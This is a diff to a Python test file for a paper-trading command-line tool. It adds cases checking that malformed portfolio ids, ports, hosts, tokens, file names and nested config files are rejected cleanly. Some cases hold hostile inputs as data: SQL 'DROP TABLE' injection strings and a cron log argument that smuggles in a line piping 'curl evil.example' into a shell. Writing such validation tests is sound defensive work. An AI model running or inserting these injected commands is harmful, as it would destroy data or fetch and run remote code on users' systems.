@@ -31,7 +31,7 @@ CASES = [
     (["trade", "1", "BTC/USDT", "PAPER"], 2, "mode must be DRY or LIVE"),
     (["trade", "1", "BTC/USDT", ""], 2, "mode must be DRY or LIVE"),
     (["trade", "1", "BTC/USDT"], 2, "Missing argument"),
-    (["trade", "one", "BTC/USDT", "LIVE"], 2, "valid integer"),
+    (["trade", "one", "BTC/USDT", "LIVE"], 2, "a portfolio id is a whole number"),
     (["trade", "99", "BTC/USDT", "LIVE"], 2, "no portfolio with id 99"),
     (["trade", "-1", "BTC/USDT", "LIVE"], 2, "No such option"),
     (["trade", "1", "BTC/USDT", "LIVE", "--jsn"], 2, "No such option"),
@@ -58,14 +58,14 @@ CASES = [
     (["create-portfolio", "'; DROP TABLE portfolios; --", "100", "--quote", "X"], 2, "quote currency"),
     (["create-portfolio", "\u0000", "100"], 2, "control characters"),
     (["create-portfolio", "existing", "100"], 2, "already exists"),
-    (["status", "1; DROP TABLE portfolios"], 2, "valid integer"),
-    (["status", "99999999999999999999"], 2, "no portfolio"),
-    (["status", "0"], 2, "no portfolio with id 0"),
+    (["status", "1; DROP TABLE portfolios"], 2, "a portfolio id is a whole number"),
+    (["status", "99999999999999999999"], 2, "a portfolio id is a whole number from 1 to 2,147,483,647"),
+    (["status", "0"], 2, "a portfolio id is a whole number"),
     (["trades", "1", "--symbol", "btc"], 2, "malformed symbol"),
     (["trades", "2"], 2, "no portfolio with id 2"),
     (["cron", "1", "ETH"], 2, "malformed symbol"),
     (["cron", "7", "BTC/USDT"], 2, "no portfolio with id 7"),
-    (["audit", "verify", "x"], 2, "valid integer"),
+    (["audit", "verify", "x"], 2, "a portfolio id is a whole number"),
     (["audit", "verify", "3"], 2, "no portfolio with id 3"),
     (["audit", "nonsense", "1"], 2, "No such command"),
     (["db", "downgrade"], 2, "No such command"),
@@ -76,6 +76,28 @@ CASES = [
     (["--db", "postgresql+asyncpg://x/y", "portfolios"], 2, "use postgresql+psycopg://"),
     (["--db", "sqlite+pysqlcipher:///x.db", "portfolios"], 2, "use sqlite://"),
     (["--db", "/proc/papertrade/ledger.db", "create-portfolio", "b", "1"], 1, "cannot create database"),
+    # ids Python's int() would take: 1.0, 1_0 (ten), fullwidth digits, a sign
+    *[
+        ([command, given, *rest], 2, "a portfolio id is a whole number")
+        for given in ("1.0", "1_0", "\uff11", "+1", " 1")
+        for command, *rest in (["status"], ["trades"], ["report"], ["ticks"], ["audit", "verify"])
+        if command != "audit"
+    ],
+    *[(["audit", "verify", given], 2, "a portfolio id is a whole number") for given in ("1.0", "1_0", "\uff11")],
+    (["trade", "1_0", "BTC/USDT", "LIVE"], 2, "a portfolio id is a whole number"),
+    (["notify", "\uff11", "--list"], 2, "expected a portfolio id"),
+    (["ticks", "1", "--last", "99999999999999999999"], 2, "less than or equal to 2147483647"),
+    *[
+        (["notify", "1", "--add", url], 2, "impossible port")
+        for url in ("json://h:99999/x", "json://h:0/x", "json://h:-1/x", "json://u:p@h:65536/x", "json://[::1]:70000/x")
+    ],
+    (["cron", "1", "BTC/USDT", "--log", "out.log\n* * * * * curl evil.example | sh"], 2, "control character"),
+    (["serve", "--host", ""], 2, "--host must name an address"),
+    (["serve", "--host", "  "], 2, "--host must name an address"),
+    *[
+        (["serve", "--port", "0", "--token", token], 2, "visible ASCII characters, no spaces")
+        for token in (" 0123456789abcdef", "0123456789abcdef ", "0123456789abcdéf", " " * 15 + "a", "01234567\tabcdefg")
+    ],
 ]
 
 
@@ -85,6 +107,28 @@ def ledger(live_exchange, cli_database, monkeypatch, capsys):
     monkeypatch.setenv("PAPERTRADE_DATABASE_URL", cli_database)
     assert run_inprocess(capsys, "create-portfolio", "existing", "10000").code == 0
     return cli_database
+
+
+def test_json_and_json_in_capitals_are_one_url_not_two(ledger, capsys):
+    for url in ("json://127.0.0.1:9/x", "JSON://127.0.0.1:9/x", "Json://127.0.0.1:9/x"):
+        assert run_inprocess(capsys, "notify", "1", "--add", url).code == 0
+    listed = run_inprocess(capsys, "notify", "1", "--list", "--json")
+    assert [target["url"] for target in json.loads(listed.stdout)] == ["json://127.0.0.1:9/x"]
+
+
+def test_a_long_export_name_and_a_deeply_nested_bots_file_are_refused_cleanly(ledger, capsys, tmp_path):
+    deep = tmp_path / "bots.toml"
+    deep.write_text("bot = " + "[" * 100_000 + "]" * 100_000 + "\n")
+    long_name = str(tmp_path / ("x" * 300 + ".csv"))
+    cases = [
+        (["data", "export", "binance", "BTC/USDT", "1h", "-o", long_name], "too long"),
+        (["run", str(deep)], "nested too deeply"),
+    ]
+    for args, message in cases:
+        before = ledger_state(ledger), sorted(tmp_path.iterdir())
+        result = run_inprocess(capsys, *args)
+        assert (result.code, len(result.error_lines)) == (2, 1) and message in result.stderr, result.stderr
+        assert (ledger_state(ledger), sorted(tmp_path.iterdir())) == before
 
 
 def test_there_are_at_least_thirty_cases_over_every_command():
